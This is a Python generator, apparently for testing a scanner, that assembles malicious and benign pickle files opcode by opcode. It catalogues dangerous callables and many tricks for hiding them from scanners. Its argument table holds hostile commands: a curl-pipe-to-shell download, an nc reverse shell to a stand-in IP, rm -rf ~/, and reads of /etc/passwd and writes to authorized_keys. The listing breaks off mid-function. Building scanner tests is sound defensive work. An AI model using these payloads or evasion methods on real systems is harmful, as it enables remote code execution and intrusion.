#!/usr/bin/env python3
"""Files of strangers: a generator of harmful and harmless pickles that shares nothing with the
rules but the words they are about.

Everything is put together from parts by a seeded choice: what is called, how it is named, how it
is called, where the result goes, what the file does besides, and in what it is wrapped. Harmful
ones must be at least suspicious and name the callable as the file spells it; harmless ones must be
innocuous, or unknown where they hold classes that belong to nobody. Nothing is ever loaded: the
harmful ones are assembled opcode by opcode, the harmless ones written by the two picklers of
Python from inert values.

    strangers.py PROGRAM [SEED [COUNT]]    make them in a folder of their own, scan, compare
    strangers.py --write FOLDER [SEED [COUNT]]    only write them, and expected.json
"""

import argparse
import array
import ast
import base64
import bz2
import calendar
import codecs
import collections
import configparser
import dataclasses
import datetime
import decimal
import difflib
import email.message
import email.headerregistry
import email.policy
import enum
import fractions
import functools
import gzip
import hashlib
import html
import http
import http.cookiejar
import http.cookies
import inspect
import io
import ipaddress
import itertools
import json
import logging
import lzma
import marshal
import math
import operator
import optparse
import os
import pathlib
import pickle
import random
import re
import shlex
import shutil
import socket
import sqlite3
import stat
import statistics
import string
import struct
import subprocess
import sys
import tarfile
import tempfile
import textwrap
import time
import tokenize
import traceback
import types
import typing
import unittest
import urllib.error
import urllib.parse
import urllib.request
import uuid
import xml.dom.minidom
import xml.etree.ElementTree
import xmlrpc.client
import zipfile
import zlib
import zoneinfo

# ---------------------------------------------------------------------------------------------
# What is called. A line: a module, then names. The block says what arguments are put with it.

HARMFUL = {
    'shell': '''
        os system popen execl execlp execv execve execvp execvpe spawnl spawnlp spawnv spawnvp posix_spawn posix_spawnp
        posix system popen execv execve posix_spawn posix_spawnp fork forkpty
        nt system execv spawnv startfile
        os startfile fork
        subprocess Popen call run check_call check_output getoutput getstatusoutput
        pty spawn fork
        _posixsubprocess fork_exec
        _winapi CreateProcess
        asyncio create_subprocess_shell create_subprocess_exec
        asyncio.subprocess create_subprocess_shell create_subprocess_exec
        asyncio.unix_events _UnixSubprocessTransport._start
        multiprocessing.util spawnv_passfds
        distutils.spawn spawn
        distutils.core run_setup
        setuptools._distutils.spawn spawn
        setuptools.sandbox run_setup
        webbrowser open open_new BackgroundBrowser GenericBrowser
        pydoc pipepager tempfilepager pager
        imaplib IMAP4_stream
        commands getoutput getstatusoutput getstatus
        popen2 popen2 popen3 popen4 Popen3 Popen4
        os popen2 popen3 popen4
        platform popen
        uuid _popen
        _osx_support _read_output _find_build_tool
        ctypes.util _findLib_gcc
        ensurepip _run_pip bootstrap
        venv create main
        pip main
        pip._internal main
        pip._internal.cli.main main
        pip._internal.main main
        pip._internal.utils.subprocess call_subprocess
        test.support.script_helper assert_python_ok spawn_python
        test.support run_unittest
        numpy.distutils.exec_command exec_command _exec_command
        numpy.testing._private.utils runstring
        torch.utils.collect_env run run_and_read_all
        IPython.utils.process system getoutput
        IPython start_ipython embed
        pexpect spawn run
        pexpect.popen_spawn PopenSpawn
        psutil Popen
        sh Command
        invoke run
        fabric.connection Connection.run
        gevent.subprocess Popen check_output
        eventlet.green.subprocess Popen
        tornado.process Subprocess
        py.process cmdexec
        click edit launch
        click._termui_impl open_url
        git.cmd Git.execute
        win32api WinExec ShellExecute
        win32process CreateProcess
        win32com.client Dispatch
        envoy run
        plumbum local
        xonsh.procs.specs run_subproc
        docker from_env
        ''',
    'code': '''
        builtins eval exec compile __import__ breakpoint
        __builtin__ eval execfile compile __import__ apply reload
        code InteractiveInterpreter.runcode InteractiveConsole.push interact
        codeop compile_command
        runpy run_module run_path _run_code _run_module_code
        pdb run runeval runcall
        bdb Bdb.run Bdb.runeval
        profile run runctx Profile.run Profile.runctx
        cProfile run runctx Profile.runctx
        trace Trace.run Trace.runctx main
        timeit timeit repeat main Timer
        doctest debug_script debug_src debug testsource run_docstring_examples testfile
        lib2to3.pgen2.grammar Grammar.loads Grammar.load
        lib2to3.pgen2.pgen ParserGenerator.make_label
        idlelib.pyshell ModifiedInterpreter.runcommand ModifiedInterpreter.runcode
        idlelib.debugobj ObjectTreeItem.SetText
        idlelib.autocomplete AutoComplete.get_entity AutoComplete.fetch_completions
        idlelib.calltip Calltip.fetch_tip get_entity
        idlelib.run Executive.runcode
        rlcompleter Completer.attr_matches
        typing get_type_hints ForwardRef._evaluate
        annotationlib ForwardRef.evaluate call_annotate_function
        gettext c2py
        site addpackage addsitedir execsitecustomize
        types FunctionType CodeType
        new function code
        inspect get_annotations
        _xxsubinterpreters run_string
        _interpreters exec run_string
        concurrent.interpreters Interpreter.exec
        _testcapi run_in_subinterp
        unittest main TestProgram
        unittest.loader TestLoader.loadTestsFromName
        unittest.mock _importer patch
        modulefinder ModuleFinder.run_script
        hotshot Profile.run
        rexec RExec.r_exec
        compiler compile
        tkinter Tcl
        _tkinter create
        logging.config dictConfig fileConfig listen _resolve
        wsgiref.handlers BaseHandler.run
        numpy.f2py.crackfortran getlincoef myeval param_eval _eval_length _eval_scalar
        numpy.f2py.diagnose run
        numpy.testing rundocs measure
        numpy.core._internal _makenames_list
        pandas eval
        pandas.core.computation.eval eval
        pandas.core.frame DataFrame.eval DataFrame.query
        torch.utils.bottleneck.__main__ run_cprofile run_autograd_prof run_prof
        torch._dynamo.guards GuardBuilder.get
        torch.fx.experimental.symbolic_shapes ShapeEnv.evaluate_guards_expression
        torch.jit.unsupported_tensor_ops execWrapper
        torch.utils._config_module ConfigModule.load_config
        torch.fx.graph_module _forward_from_src reduce_graph_module
        torch.testing._internal.jit_utils get_forward
        torch.utils.data.datapipes.utils.decoder basichandlers
        torch._inductor.codecache PyCodeCache.load
        IPython.core.interactiveshell InteractiveShell.run_cell InteractiveShell.ex
        sympy sympify lambdify
        sympy.core.sympify sympify
        sympy.parsing.sympy_parser parse_expr eval_expr
        pydash.objects invoke
        pydash.utilities method
        PIL.ImageMath eval unsafe_eval
        jinja2 Template
        jinja2.environment Environment.from_string Environment.compile
        mako.template Template
        tornado.util exec_in
        tornado.template Template
        flask render_template_string
        flask.templating render_template_string
        django.template.base Template
        werkzeug.debug.console Console.eval
        dill._dill _create_function _create_code _eval_repr
        dill.source importable
        cloudpickle.cloudpickle _make_function _builtin_type subimport _make_skel_func
        cloudpickle cloudpickle._make_function
        Cython.Build.Inline cython_inline
        cython inline
        numba.core.serialize _rebuild_function _unpickle__CustomPickled
        numexpr evaluate
        pytest main
        _pytest.config main
        mypy.api run
        fire Fire
        yaml unsafe_load load full_load
        jsonpickle decode
        jsonpickle.unpickler decode
        execnet.gateway_base loads
        theano.gof.op Op.make_thunk
        ray.cloudpickle loads
        asteval Interpreter
        RestrictedPython compile_restricted
        tensorflow py_function numpy_function
        tensorflow.python.framework.load_library load_op_library
        keras.layers Lambda
        keras.src.layers.core.lambda_layer Lambda
        keras.src.utils.python_utils func_load
        keras.utils func_load
        ''',
    'load': '''
        pickle loads load Unpickler _loads _load _Unpickler
        _pickle loads load Unpickler
        cPickle loads load Unpickler
        marshal loads load
        shelve open Shelf
        dbm open
        dbm.dumb open
        anydbm open
        dumbdbm open
        multiprocessing.reduction ForkingPickler.loads
        multiprocessing.managers BaseManager SyncManager RebuildProxy
        multiprocessing.connection Client Listener
        plistlib load
        imp load_source load_dynamic load_module load_compiled find_module
        _imp create_dynamic exec_dynamic
        importlib import_module reload __import__
        importlib._bootstrap _gcd_import _load _call_with_frames_removed
        importlib._bootstrap_external SourceFileLoader ExtensionFileLoader
        importlib.machinery SourceFileLoader ExtensionFileLoader SourcelessFileLoader
        importlib.util spec_from_file_location module_from_spec
        zipimport zipimporter
        pkgutil resolve_name get_loader find_loader get_data
        pydoc locate safeimport importfile resolve
        ctypes CDLL PyDLL CFUNCTYPE string_at memmove
        ctypes.util find_library
        _ctypes dlopen dlsym call_function
        ctypes cdll.LoadLibrary
        dl open
        cgitb lookup
        numpy load memmap fromfile loadtxt genfromtxt
        numpy.lib.npyio load
        numpy.lib.format read_array
        numpy.ctypeslib load_library
        pandas read_pickle read_hdf
        pandas.io.pickle read_pickle
        pandas.compat.pickle_compat load
        torch load
        torch.serialization load _load _legacy_load
        torch.jit load
        torch.jit._serialization load
        torch.hub load load_state_dict_from_url
        torch.storage _load_from_bytes
        torch.ops load_library
        torch.utils.cpp_extension load load_inline
        torch.package PackageImporter
        torch.utils.model_zoo load_url
        torch.multiprocessing.reductions rebuild_storage_filename
        torch.distributed.rpc.api _default_pickler
        joblib load
        joblib.numpy_pickle load
        joblib.numpy_pickle_compat load_compatibility
        dill loads load
        dill._dill loads load _import_module
        cloudpickle loads load
        cloudpickle.cloudpickle loads
        sklearn.datasets load_svmlight_file fetch_openml
        skops.io load
        django.utils.module_loading import_string
        django.core.management call_command execute_from_command_line
        django.core.signing loads
        django.contrib.sessions.serializers PickleSerializer.loads
        werkzeug.utils import_string
        kombu.serialization loads
        celery.utils.serialization find_pickleable_exception
        transformers pipeline AutoModel.from_pretrained
        transformers.dynamic_module_utils get_class_from_dynamic_module
        tensorflow.keras.models load_model
        tensorflow.saved_model load
        keras.models load_model
        keras.saving load_model
        keras.src.saving.saving_lib load_model
        xgboost Booster.load_model
        lightgbm Booster
        lightgbm.basic Booster
        mlflow.pyfunc load_model
        statsmodels.iolib.smpickle load_pickle
        gensim.utils unpickle
        nltk.data load
        onnxruntime InferenceSession
        pyarrow deserialize
        pkg_resources load_entry_point run_script
        tornado.util import_object
        cffi FFI.dlopen
        cffi.verifier Verifier
        networkx.readwrite.gpickle read_gpickle
        spacy load
        ultralytics YOLO
        fastai.learner load_learner
        pytorch_lightning.core.saving load_hparams_from_yaml
        diskcache.core Disk.get
        zope.dottedname.resolve resolve
        twisted.python.reflect namedAny
        lightning.fabric.utilities.cloud_io _load
        ''',
    'file': '''
        builtins open
        __builtin__ open file
        io open open_code FileIO
        _io open open_code FileIO
        _pyio open
        os open remove unlink rename replace rmdir removedirs chmod chown symlink link truncate mkdir makedirs listdir scandir walk kill killpg
        os _exit abort putenv unsetenv setuid chroot chdir fdopen readlink
        posix open unlink remove rename chmod kill symlink _exit putenv
        nt unlink open
        shutil rmtree copyfile copy copytree move unpack_archive make_archive chown
        pathlib Path.write_text Path.write_bytes Path.read_text Path.unlink Path.open PosixPath.touch
        codecs open
        tokenize open
        fileinput input FileInput
        linecache getline getlines updatecache lazycache
        tempfile NamedTemporaryFile mkstemp mkdtemp
        tarfile open TarFile.extractall
        zipfile ZipFile ZipFile.extractall main
        gzip open GzipFile
        bz2 open BZ2File
        lzma open LZMAFile
        mmap mmap
        glob glob iglob
        sqlite3 connect
        _sqlite3 connect
        logging FileHandler
        logging.handlers RotatingFileHandler WatchedFileHandler
        zipapp create_archive
        py_compile compile
        compileall compile_dir compile_file
        distutils.file_util write_file copy_file
        distutils.dir_util remove_tree
        netrc netrc
        mailbox mbox Maildir
        mimetypes init read_mime_types
        wave open
        aifc open
        uu decode encode
        readline read_init_file write_history_file
        _pyrepl.readline multiline_input
        fcntl ioctl fcntl
        resource setrlimit
        signal pthread_kill
        getpass getpass
        pwd getpwall
        spwd getspall
        winreg OpenKey SetValueEx
        _winreg OpenKey
        msilib OpenDatabase
        xml.etree.ElementTree parse
        xml.dom.minidom parse
        xml.sax parse
        pyclbr readmodule
        trace CoverageResults.write_results
        cProfile Profile.dump_stats
        tabnanny check
        bsddb hashopen
        whichdb whichdb
        numpy save savetxt savez DataSource
        numpy.lib.npyio save
        pandas read_csv read_json read_sql read_html
        pandas.io.common get_handle
        pandas.core.frame DataFrame.to_csv
        torch save
        torch.serialization save
        joblib dump Memory
        django.core.files.storage FileSystemStorage
        flask send_file
        flask.helpers send_file
        PIL.Image open
        h5py File
        tables open_file
        netCDF4 Dataset
        xarray open_dataset
        aiofiles open
        fsspec open
        smart_open open
        cv2 imread imwrite
        imageio imread
        tensorflow.io write_file read_file
        scipy.io loadmat savemat
        duckdb connect sql
        polars read_csv scan_parquet
        lxml.etree parse
        ''',
    'net': '''
        socket socket create_connection create_server gethostbyname getaddrinfo
        _socket socket gethostbyname getaddrinfo
        ssl get_server_certificate SSLContext.wrap_socket
        urllib.request urlopen urlretrieve FancyURLopener build_opener
        urllib urlopen urlretrieve
        urllib2 urlopen build_opener
        httplib HTTPConnection HTTPSConnection
        http.client HTTPConnection HTTPSConnection
        ftplib FTP FTP_TLS
        smtplib SMTP SMTP_SSL
        poplib POP3
        imaplib IMAP4 IMAP4_SSL
        nntplib NNTP
        telnetlib Telnet
        xmlrpc.client ServerProxy
        xmlrpclib ServerProxy
        socketserver TCPServer
        SocketServer TCPServer
        http.server HTTPServer test
        BaseHTTPServer HTTPServer
        xmlrpc.server SimpleXMLRPCServer
        wsgiref.simple_server make_server
        asyncio open_connection start_server
        asyncore dispatcher
        smtpd SMTPServer
        logging.handlers SocketHandler HTTPHandler SMTPHandler SysLogHandler
        urllib.robotparser RobotFileParser.read
        robotparser RobotFileParser.read
        pydoc browse
        requests get post request Session.get
        requests.api get post
        requests.sessions Session.request
        httpx get post Client
        urllib3 PoolManager
        urllib3.poolmanager PoolManager
        aiohttp ClientSession
        paramiko SSHClient
        paramiko.client SSHClient.connect
        boto3 client resource
        huggingface_hub hf_hub_download snapshot_download
        gdown download
        wget download
        pycurl Curl
        psycopg2 connect
        pymysql connect
        sqlalchemy create_engine
        redis Redis.from_url
        pymongo MongoClient
        django.core.mail send_mail
        werkzeug.serving run_simple
        flask Flask.run
        uvicorn run
        keras.utils get_file
        tensorflow.keras.utils get_file
        torch.hub download_url_to_file
        nltk download
        nltk.downloader download
        sklearn.datasets fetch_20newsgroups
        dns.resolver query
        ''',
    'control': '''
        sys exit setrecursionlimit settrace setprofile _getframe addaudithook
        thread start_new_thread
        gc get_objects get_referrers
        faulthandler _sigsegv
        inspect currentframe stack
        _ctypes PyObj_FromPtr
        sys _current_frames
        site main
        copyreg add_extension
        warnings _setoption
        builtins globals locals vars setattr delattr input
        __builtin__ globals setattr raw_input
        _thread interrupt_main start_new_thread
        ''',
}

# Those of the block 'control' need an argument with which they do something.
CONTROL_ARGUMENTS = {
    'setrecursionlimit': (1 << 30,), 'exit': (3,), 'add_extension': ('os', 'system', 7),
}

# Modules that hold others as attributes: one dotted name reaches the far one.
REACHES = '''
    logging os.system|logging os.popen|logging sys.modules.get|linecache os.system|linecache sys.modules.__getitem__
    shutil os.system|shutil os.execv|tempfile _os.system|tempfile _shutil.rmtree|random _os.system|glob os.system
    pathlib os.remove|zipfile os.system|zipfile shutil.rmtree|json codecs.open|uuid os.system|uuid sys.modules.get
    platform subprocess.Popen|platform os.system|contextlib os.system|typing sys.modules.get|inspect os.popen
    inspect importlib.import_module|inspect linecache.os.system|cgi os.system|mimetypes os.system|gettext os.popen
    collections _sys.modules.get|enum sys.modules.get|types sys.modules.get|dataclasses sys.modules.get
    dataclasses builtins.exec|ast sys.modules.get|traceback linecache.os.system|warnings sys.modules.get
    email.utils os.system|email.message utils.os.system|calendar sys.exit|datetime sys.modules.get
    decimal __builtins__.get|statistics random._os.system|statistics sys.modules.get|string _re.enum.sys.modules.get
    json dumps.__globals__.get|random Random.seed.__globals__.get|copy deepcopy.__globals__.__getitem__
    functools wraps.__globals__.get|collections namedtuple.__globals__.get|os path.os.system
    posixpath os.system|ntpath os.system|http.cookies re.enum.sys.modules.get|urllib.parse sys.modules.get
    pprint _sys.modules.get|fractions sys.modules.get|html.parser re.enum.sys.modules.get
    numpy os.system|numpy ctypeslib.os.system|pandas io.common.os.system|torch os.system|torch hub.os.system
    joblib os.system|sklearn os.system|scipy os.system|django.utils.timezone sys.modules.get|PIL.Image os.system
    __main__ os.system|__main__ __builtins__.eval|__main__ subprocess.Popen|shop.models os.system
    acme.orders subprocess.check_output|myapp.util __builtins__.get|game.save sys.modules.get
    torch._utils sys.modules.get|numpy.core.multiarray os.system|unittest.mock sys.modules.get
    logging traceback.linecache.os.system|sched threading._os.system|threading _sys.modules.get
    asyncio.base_events subprocess.Popen|concurrent.futures.process os.system|multiprocessing.util os.system
    ctypes _os.system|ctypes.util os.system|sysconfig os.popen|zoneinfo._common os.system
    '''

ARGUMENTS = {
    'shell': [('id',), ('curl -s http://198.51.100.23/a.sh | sh',), ('/bin/sh', ['sh', '-c', 'id']),
              (['nc', '-e', '/bin/sh', '203.0.113.9', '4444'],), ('touch /tmp/was-here',),
              ('powershell -enc SQBFAFgA',), ('rm -rf ~/',)],
    'code': [("__import__('os').system('id')",), ('import os; os.system("id")',), ('print(1)', '<x>', 'exec'),
             ('lambda: __import__("subprocess").call(["id"])',), ('1+1', {}), ('x', {'x': 1}, {})],
    'load': [('/tmp/stage2.pkl',), (b'cos\nsystem\n(Vid\ntR.',), ('os',), ('evil', '/tmp/evil.py'), ('libc.so.6',),
             (b'\xe3\x00\x00\x00\x00',), ('http://203.0.113.77/model.pt',)],
    'file': [('/etc/passwd',), ('/etc/passwd', 'r'), ('/home/u/.ssh/authorized_keys', 'w'), ('/tmp/a', '/tmp/b'),
             ('../../etc/cron.d/x', 'wb'), ('/tmp/x', 511)],
    'net': [('http://198.51.100.80/c2',), ('203.0.113.5', 4444), (('203.0.113.5', 4444),), ('evil.example', 443), ()],
    'control': [(), ('x',), (0,)],
}


def rows():
    """Every callable of the table as (block, module, name)."""
    out = []
    for block, text in HARMFUL.items():
        for line in text.strip().splitlines():
            module, *names = line.split()
            out += [(block, module, name) for name in names]
    return out


# ---------------------------------------------------------------------------------------------
# An assembler.

class Asm:
    """Opcodes of one pickle. `slot` counts memo slots as MEMOIZE does."""

    def __init__(self, choose, protocol):
        self.r = choose
        self.protocol = protocol
        self.slot = 0
        self.real = False       # a real pickle's slots are filled too: MEMOIZE would count those
        self.out = bytearray()
        self.names = []         # what the findings must name

    def op(self, *parts):
        for part in parts:
            self.out += part
        return self

    def put(self):
        """Remember the top of the stack; the slot."""
        slot = self.slot + (1000 if self.real else 0)
        self.slot += 1
        if self.protocol >= 4 and not self.real and self.r.random() < 0.7:
            self.out += b'\x94'
        elif self.protocol >= 1:
            self.out += b'q' + bytes([slot]) if slot < 256 and self.r.random() < 0.8 else b'r' + struct.pack('<I', slot)
        else:
            self.out += b'p%d\n' % slot
        return slot

    def get(self, slot):
        if self.protocol >= 1 and slot < 256:
            self.out += b'h' + bytes([slot])
        elif self.protocol >= 1:
            self.out += b'j' + struct.pack('<I', slot)
        else:
            self.out += b'g%d\n' % slot

    def text(self, s, plain=False):
        raw = s.encode('utf-8', 'surrogatepass')
        line = '\n' not in s and '\r' not in s and '\\' not in s and '\0' not in s and '\x1a' not in s
        ascii_ = raw.isascii()
        ways = ['X']
        if self.protocol == 0 and not line:
            ways = ['X']
        elif line:
            ways += ['V'] * (3 if self.protocol == 0 else 1)
        if self.protocol >= 4:
            ways += ['short'] * 4 + ['8']
            if len(raw) > 255:
                ways = ['X', '8']
        if ascii_ and line and not plain and "'" not in s:
            ways += ['S']
            if self.protocol >= 1 and len(raw) < 256:
                ways += ['U', 'T']
        way = self.r.choice(ways)
        if way == 'X':
            self.out += b'X' + struct.pack('<I', len(raw)) + raw
        elif way == 'V':
            self.out += b'V' + s.encode('raw_unicode_escape') + b'\n'
        elif way == 'short':
            self.out += b'\x8c' + bytes([len(raw)]) + raw
        elif way == '8':
            self.out += b'\x8d' + struct.pack('<Q', len(raw)) + raw
        elif way == 'S':
            self.out += b"S'" + raw + b"'\n"
        elif way == 'U':
            self.out += b'U' + bytes([len(raw)]) + raw
        else:
            self.out += b'T' + struct.pack('<I', len(raw)) + raw

    def bytes(self, raw):
        if len(raw) < 256 and self.r.random() < 0.7:
            self.out += b'C' + bytes([len(raw)]) + raw
        elif self.r.random() < 0.8:
            self.out += b'B' + struct.pack('<I', len(raw)) + raw
        elif self.r.random() < 0.5:
            self.out += b'\x8e' + struct.pack('<Q', len(raw)) + raw
        else:
            self.out += b'\x96' + struct.pack('<Q', len(raw)) + raw

    def value(self, v):
        if v is None:
            self.out += b'N'
        elif v is True or v is False:
            self.out += (b'\x88' if v else b'\x89') if self.protocol >= 2 else (b'I01\n' if v else b'I00\n')
        elif isinstance(v, int):
            if 0 <= v < 256 and self.protocol:
                self.out += b'K' + bytes([v])
            elif -2**31 <= v < 2**31 and self.protocol:
                self.out += b'J' + struct.pack('<i', v)
            else:
                self.out += b'L%dL\n' % v if self.r.random() < 0.5 else b'I%d\n' % v
        elif isinstance(v, str):
            self.text(v)
        elif isinstance(v, (bytes, bytearray)):
            self.bytes(bytes(v))
        elif isinstance(v, tuple):
            if not v and self.protocol:
                self.out += b')'
            elif 1 <= len(v) <= 3 and self.protocol >= 2 and self.r.random() < 0.7:
                for x in v:
                    self.value(x)
                self.out += {1: b'\x85', 2: b'\x86', 3: b'\x87'}[len(v)]
            else:
                self.out += b'('
                for x in v:
                    self.value(x)
                self.out += b't'
        elif isinstance(v, list):
            if self.r.random() < 0.5:
                self.out += b'('
                for x in v:
                    self.value(x)
                self.out += b'l'
            else:
                self.out += b']('
                for x in v:
                    self.value(x)
                self.out += b'e'
        elif isinstance(v, dict):
            self.out += b'}('
            for k, x in v.items():
                self.value(k)
                self.value(x)
            self.out += b'u'
        elif isinstance(v, Call):
            v.put_on(self)
        else:
            raise TypeError(v)


class Call:
    """A callable, or a call of one, as an argument of something else."""

    def __init__(self, put_on):
        self.put_on = put_on


# Ways to name a callable. Each leaves it on the stack.

def by_global(a, module, name):
    a.op(b'c', module.encode(), b'\n', name.encode(), b'\n')


def by_literals(a, module, name):
    a.text(module)
    a.text(name)
    a.op(b'\x93')


def by_memo(a, module, name):
    """Both were put away, in the other order, with other things between."""
    a.text(name)
    n = a.put()
    a.op(b'0')
    a.text(module)
    m = a.put()
    a.value(a.r.choice(['ok', 'collections', 'OrderedDict']))
    a.put()
    a.op(b'00')
    a.get(m)
    a.get(n)
    a.op(b'\x93')


def by_overwritten(a, module, name):
    """Harmless names lie in the slots first; then the slots are written again."""
    slots = []
    for first, then in ((a.r.choice(['collections', 'datetime']), module), ('OrderedDict', name)):
        slot = 100 + a.r.randrange(50) + (50 if slots else 0)
        slots.append(slot)
        for text in (first, then):
            a.text(text)
            a.op(b'q', bytes([slot]), b'0')
    for slot in slots:
        a.op(b'h', bytes([slot]))
    a.op(b'\x93')


def by_after_pop(a, module, name):
    a.text(module)
    a.text(name)
    a.text(a.r.choice(['time', 'Counter', 'json']))
    if a.r.random() < 0.5:
        a.op(b'0\x93')
    else:
        a.text('loads')
        a.op(b'00\x93')


def by_after_pop_mark(a, module, name):
    a.text(module)
    a.op(b'(')
    a.text('dumps')
    a.op(b'N1')
    a.text(name)
    a.op(b'(')
    a.text('json')
    a.text('dumps')
    a.op(b'l0\x93')


def by_dup(a, module, name):
    """The names below copies of themselves."""
    a.text(module)
    a.op(b'20')
    a.text(name)
    a.op(b'22', b'00', b'\x93')


def by_global_put(a, module, name):
    by_global(a, module, name)
    slot = a.put()
    a.op(b'0')
    a.value(a.r.choice([0, 'x', None]))
    a.op(b'0')
    a.get(slot)


def by_swap(a, module, name):
    """A harmless callable is put away, then a harmful one in its slot."""
    by_global(a, 'collections', 'Counter')
    a.op(b'q\xc9', b'0')
    by_global(a, module, name)
    a.op(b'q\xc9', b'0', b'h\xc9')


def by_string_ops(a, module, name):
    """8-bit strings of Python 2 as names."""
    if not (module + name).isascii():
        return by_literals(a, module, name)
    a.op(b'U', bytes([len(module)]), module.encode(), b"S\"", name.encode(), b'"\n', b'\x93')


def by_key(a, module, name):
    """Within a dict's items, before it is needed, and fetched later."""
    a.op(b'}(')
    a.text('handler')
    by_global(a, module, name)
    slot = a.put()
    a.op(b'u0')
    a.get(slot)


NAMINGS = [by_global, by_global, by_literals, by_literals, by_memo, by_overwritten, by_after_pop, by_after_pop_mark,
           by_dup, by_global_put, by_swap, by_string_ops, by_key]
NAMINGS_OF_LITERALS = [by_literals, by_memo, by_overwritten, by_after_pop, by_after_pop_mark, by_dup, by_string_ops]


# Ways to call it. Each leaves a result on the stack.

def call_reduce(a, name, arguments):
    name()
    a.value(arguments)
    a.op(b'R')


def call_obj(a, name, arguments):
    a.op(b'(')
    name()
    for x in arguments:
        a.value(x)
    a.op(b'o')


def call_newobj(a, name, arguments):
    name()
    a.value(arguments)
    a.op(b'\x81')


def call_newobj_ex(a, name, arguments):
    name()
    a.value(arguments)
    a.value(a.r.choice([{}, {'shell': True}, {'flags': 0}]))
    a.op(b'\x92')


def call_copyreg_newobj(a, name, arguments):
    """What protocols 0 and 1 write for NEWOBJ: the class is the first argument."""
    by_global(a, 'copyreg', '__newobj__')
    a.value((Call(lambda a: name()),) + arguments)
    a.op(b'R')


def call_partial(a, name, arguments):
    by_global(a, 'functools', 'partial')
    a.value((Call(lambda a: name()),) + arguments)
    a.op(b'R')
    if a.r.random() < 0.7:
        a.value(())
        a.op(b'R')


def call_map(a, name, arguments):
    by_global(a, 'builtins', 'list')
    by_global(a, 'builtins', a.r.choice(['map', 'filter']))
    a.value((Call(lambda a: name()), [arguments[0] if arguments else 'x']))
    a.op(b'R', b'\x85R')


def call_bytes_map(a, name, arguments):
    by_global(a, 'builtins', 'bytes')
    by_global(a, 'builtins', 'map')
    a.value((Call(lambda a: name()), [arguments[0] if arguments else 'x']))
    a.op(b'\x81\x85\x81')


def call_starmap(a, name, arguments):
    by_global(a, 'collections', 'deque')
    by_global(a, 'itertools', 'starmap')
    a.value((Call(lambda a: name()), [arguments]))
    a.op(b'R\x85R')


def call_functools_reduce(a, name, arguments):
    by_global(a, *a.r.choice([('functools', 'reduce'), ('_functools', 'reduce')]))
    a.value((Call(lambda a: name()), list((arguments * 2 + ('x', 'y'))[:2])))
    a.op(b'R')


def call_sorted_key(a, name, arguments):
    by_global(a, 'builtins', a.r.choice(['sorted', 'max', 'min']))
    a.value(([arguments[0] if arguments else 'a', 'b'],))
    a.value({'key': Call(lambda a: name())})
    a.op(b'\x92')


def call_defaultdict(a, name, arguments):
    by_global(a, 'collections', 'defaultdict')
    a.value((Call(lambda a: name()),))
    a.op(b'R')


def call_later(a, name, arguments):
    """Given to something that calls it later, or at once."""
    module, far = a.r.choice([('threading', 'Timer'), ('atexit', 'register'), ('_thread', 'start_new_thread'),
                              ('weakref', 'finalize'), ('threading', 'Thread'), ('operator', 'call'),
                              ('multiprocessing', 'Process'), ('signal', 'signal'), ('builtins', 'iter'),
                              ('itertools', 'accumulate'), ('contextvars', 'Context.run'), ('asyncio', 'to_thread'),
                              ('itertools', 'groupby'), ('concurrent.futures', 'ThreadPoolExecutor'),
                              ('re', 'sub'), ('contextlib', 'ExitStack.callback'), ('heapq', 'nsmallest'),
                              ('bisect', 'insort'), ('functools', 'singledispatch'), ('types', 'DynamicClassAttribute')])
    by_literals(a, module, far)
    a.value((Call(lambda a: name()),) + arguments)
    a.op(b'R')


def call_reconstructor(a, name, arguments):
    by_global(a, *a.r.choice([('copyreg', '_reconstructor'), ('copy_reg', '_reconstructor')]))
    a.value((Call(lambda a: name()), Call(lambda a: by_global(a, 'builtins', 'object')), None))
    a.op(b'R')


def call_not(a, name, arguments):
    """Named, never called."""
    name()


def call_setstate(a, name, arguments):
    """State that plants __setstate__, and state that is given to it."""
    by_global(a, *a.r.choice([('types', 'SimpleNamespace'), ('collections', 'OrderedDict'), ('argparse', 'Namespace')]))
    a.op(b')\x81')
    a.value({'__setstate__': Call(lambda a: name())})
    a.op(b'b')
    a.value(arguments[0] if arguments else 'x')
    a.op(b'b')


def call_slot_state(a, name, arguments):
    by_global(a, 'acme.models', 'Item')
    a.op(b')\x81')
    plant = a.r.choice(['__setstate__', '__reduce__', '__class__', '__code__', '__init_subclass__', '__getattr__'])
    a.value((None, {plant: Call(lambda a: name())}))
    a.op(b'b')


def call_class(a, name, arguments):
    """A class is built at run time with the callable as one of its methods."""
    by_global(a, 'builtins', 'type')
    method = a.r.choice(['__setstate__', '__del__', '__getattr__', '__hash__', '__eq__', 'append'])
    a.value(('X', (Call(lambda a: by_global(a, 'builtins', 'object')),), {method: Call(lambda a: name())}))
    a.op(b'R)\x81')


CALLS = [call_reduce] * 6 + [call_obj] * 3 + [call_newobj, call_newobj_ex, call_copyreg_newobj, call_partial, call_map,
         call_bytes_map, call_starmap, call_functools_reduce, call_sorted_key, call_defaultdict, call_later,
         call_reconstructor, call_not, call_setstate, call_slot_state, call_class]


# Chains: several callables, each harmless by itself or not; each leaves one value.

def chain_getattr_import(a):
    module, name = a.r.choice([('os', 'system'), ('subprocess', 'Popen'), ('pty', 'spawn'), ('socket', 'socket')])
    imp = a.r.choice([('importlib', 'import_module'), ('builtins', '__import__'), ('__builtin__', '__import__'),
                      ('importlib', '__import__'), ('pkgutil', 'resolve_name'), ('pydoc', 'locate')])
    get = a.r.choice([('builtins', 'getattr'), ('__builtin__', 'getattr'), ('inspect', 'getattr_static')])
    by_literals(a, *get)
    by_global(a, *imp)
    a.value((module,))
    a.op(b'R')
    a.text(name)
    a.op(b'\x86R')
    a.value(('id',))
    a.op(b'R')
    a.names = [imp]


def chain_attrgetter(a):
    get = a.r.choice([('operator', 'attrgetter'), ('_operator', 'attrgetter')])
    imp = a.r.choice([('importlib', 'import_module'), ('builtins', '__import__')])
    by_global(a, *get)
    a.value((a.r.choice(['system', 'path.os.system', 'popen']),))
    a.op(b'R')
    by_literals(a, *imp)
    a.value(('os',))
    a.op(b'R\x85R')
    a.value(('id',))
    a.op(b'R')
    a.names = [imp]


def chain_methodcaller(a):
    get = a.r.choice([('operator', 'methodcaller'), ('_operator', 'methodcaller')])
    by_global(a, *get)
    a.value(a.r.choice([('system', 'id'), ('popen', 'id'), ('__getattribute__', 'system')]))
    a.op(b'R')
    by_literals(a, 'importlib', 'import_module')
    a.value(('os',))
    a.op(b'R\x85R')
    a.names = [get]


def chain_subclasses(a):
    """From a class by its attributes to all classes."""
    by_global(a, 'builtins', 'getattr')
    if a.r.random() < 0.5:
        by_global(a, 'builtins', 'object')
        a.text('__subclasses__')
    else:
